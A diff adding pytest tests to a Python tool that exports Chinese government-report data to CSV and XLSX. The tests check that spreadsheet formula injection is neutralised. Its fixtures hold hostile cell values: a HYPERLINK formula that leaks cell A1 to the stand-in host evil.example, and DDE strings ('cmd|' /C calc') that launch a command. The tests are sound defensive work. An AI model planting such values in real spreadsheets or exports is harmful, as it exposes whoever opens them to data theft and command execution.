@@ -91,3 +91,138 @@ def test_filters_and_bad_format(store, tmp_path):
     assert len(facts_frame(store, indicator="gdp")) == 2
     with pytest.raises(QueryError):
         export(store, "sav", tmp_path / "x.sav")
+
+
+# -- formula injection: report text never becomes a live spreadsheet formula ------------------------
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory):
+    from govreport.store import open_store
+
+    s = open_store(tmp_path_factory.mktemp("hostile") / "h.db")
+    sentence = HOSTILE + "城镇登记失业率下降0.3个百分点。"
+    rows = [
+        fact("actual", "2020", "gdp", "growth", -2.5, "%", "exact", "@SUM(1+1)生产总值下降2.5%。", "2.5%"),
+        fact("actual", "2020", "urban_unemployment_rate", "change", -0.3, "个百分点", "exact", sentence,
+             "0.3个百分点"),
+        fact("target", "2021", None, "level", 5.0, "%", "max", "+cmd|' /C calc'!A0 控制在5%以内。", "5%"),
+    ]
+    rows[0]["indicator_text"] = "-2+3"
+    rows[2]["indicator_text"] = "\t=1+1"
+    rows[1]["indicator_text"] = "\r=2+2"
+    s.write_report(make_report("hostile_2021", "-恶意省", 2021, rows, admin_code="990000"), sha256="9" * 64)
+    yield s
+    s.close()
+
+
+def _assert_no_formula_text(value) -> None:
+    assert not (isinstance(value, str) and value.startswith(FORMULA_START)), repr(value)
+
+
+def test_xlsx_export_has_no_formula_cells_and_keeps_numbers(hostile_store, tmp_path):
+    from openpyxl import load_workbook
+
+    out = tmp_path / "h.xlsx"
+    assert export(hostile_store, "xlsx", out) == 3
+    ws = load_workbook(out).active
+    header = [c.value for c in ws[1]]
+    cells = [dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2)]
+    for row in cells:
+        for cell in row.values():
+            assert cell.data_type != "f", (cell.coordinate, cell.value)
+            _assert_no_formula_text(cell.value)
+    values = sorted(row["value"].value for row in cells)
+    assert values == [-2.5, -0.3, 5.0]  # negative numbers stay numbers, not quoted text
+    assert all(row["value"].data_type == "n" and row["report_year"].data_type == "n" for row in cells)
+    sentences = {row["sentence"].value for row in cells}
+    assert "'" + HOSTILE + "城镇登记失业率下降0.3个百分点。" in sentences
+    assert {row["region"].value for row in cells} == {"'-恶意省"}
+    assert {row["indicator_text"].value for row in cells} >= {"'-2+3", "'\t=1+1"}
+    assert any(str(row["indicator_text"].value).startswith("'\r=2+2") for row in cells)
+
+
+def test_csv_export_quotes_formula_text_and_keeps_numbers(hostile_store, tmp_path):
+    import csv
+
+    out = tmp_path / "h.csv"
+    export(hostile_store, "csv", out)
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert len(rows) == 3
+    numeric = {"value", "value_max", "report_year", "period_start", "period_end", "span_start", "span_end"}
+    for row in rows:
+        for column, value in row.items():
+            if column in numeric:
+                assert value == "" or float(value) == float(value)  # a plain number, e.g. -2.5
+            else:
+                _assert_no_formula_text(value)
+    assert sorted(float(r["value"]) for r in rows) == [-2.5, -0.3, 5.0]
+    assert {r["indicator_text"] for r in rows} == {"'-2+3", "'\r=2+2", "'\t=1+1"}
+    assert {r["sentence"] for r in rows} >= {"'@SUM(1+1)生产总值下降2.5%。", "'+cmd|' /C calc'!A0 控制在5%以内。"}
+    # the other formats keep the text as written
+    df = _read("parquet", _written(hostile_store, tmp_path, "parquet"))
+    assert set(df["region"]) == {"-恶意省"}
+
+
+def _written(store, tmp_path, fmt):
+    out = tmp_path / f"h.{fmt}"
+    export(store, fmt, out)
+    return out
+
+
+def _hostile_task_report():
+    from govreport.model import DocMeta, Report, Span, Task
+
+    text = "=HYPERLINK(\"http://evil.example/\",\"x\")新建高标准农田22万亩。\n-1+1推进改革。"
+    tasks = (Task("=HYPERLINK(", "\"http://evil.example/\")", Span(0, 10), value=-3.0, unit="%",
+                  area="@区域", department="+部门", deadline="\r2025年", sentence=text.split("\n")[0]),
+             Task("推进", "改革", Span(text.index("推进"), len(text)), sentence="-1+1推进改革。"))
+    return Report(DocMeta(id="=evil"), text, (), (), tasks, ())
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_task_table_cells_are_not_formulas(tmp_path, monkeypatch, fmt):
+    import csv
+
+    from click.testing import CliRunner
+
+    from govreport.cli import text_cmds
+
+    reports = [_hostile_task_report(), _hostile_task_report()]  # two: the 报告 column holds the id
+    monkeypatch.setattr(text_cmds, "_reports", lambda paths: reports)
+    monkeypatch.setattr(text_cmds, "expand_paths", lambda paths: [tmp_path / "a", tmp_path / "b"])
+    out = tmp_path / f"tasks.{fmt}"
+    result = CliRunner().invoke(text_cmds.tasks_command, ["a", "b", "--format", fmt, "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    if fmt == "xlsx":
+        from openpyxl import load_workbook
+
+        ws = load_workbook(out).active
+        rows = [[c for c in row] for row in ws.iter_rows(min_row=2)]
+        assert all(c.data_type != "f" for row in rows for c in row)
+        values = [[c.value for c in row] for row in rows]
+        assert [row[1] for row in values] == [1, 2, 1, 2]  # 序号 stays a number
+    else:
+        with out.open(encoding="utf-8-sig", newline="") as fh:
+            values = [list(r.values()) for r in csv.DictReader(fh)]
+        assert [row[1] for row in values] == ["1", "2", "1", "2"]
+    assert len(values) == 4
+    for row in values:
+        for value in row:
+            _assert_no_formula_text(value)
+    assert values[0][0] == "'=evil" and values[1][-1] == "'-1+1推进改革。"
+
+
+def test_query_csv_output_quotes_formula_text(capsys):
+    import csv
+    import io
+
+    from govreport.cli.store_cmds import emit
+
+    emit([{"report_id": "=cmd|' /C calc'!A0", "value": -2.5, "span": [3, 9], "evidence": "@SUM(A1)"}], "csv")
+    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert row == {"report_id": "'=cmd|' /C calc'!A0", "value": "-2.5", "span": "3-9", "evidence": "'@SUM(A1)"}
